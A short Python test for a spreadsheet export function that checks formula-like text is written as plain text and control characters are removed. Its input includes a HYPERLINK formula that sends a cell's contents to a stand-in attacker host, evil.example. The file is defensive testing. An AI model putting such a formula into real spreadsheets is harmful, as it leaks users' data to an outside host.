"""Issue 13 item 7: indicator XLSX writes formula-like text as text; numbers stay numbers."""

import io

import pandas as pd
from openpyxl import load_workbook

from renkou.analytics.exports import to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


def test_indicator_xlsx_is_safe():
    frame = pd.DataFrame({"unit": [HYPERLINK, "东门\u000b社区"], "value": [-1.5, 2.0]})
    sheet = load_workbook(io.BytesIO(to_xlsx(frame, title="指标\u000b"))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1] == ("'" + HYPERLINK, -1.5)
    assert rows[2] == ("东门\ufffd社区", 2.0)
    assert sheet.title == "指标"
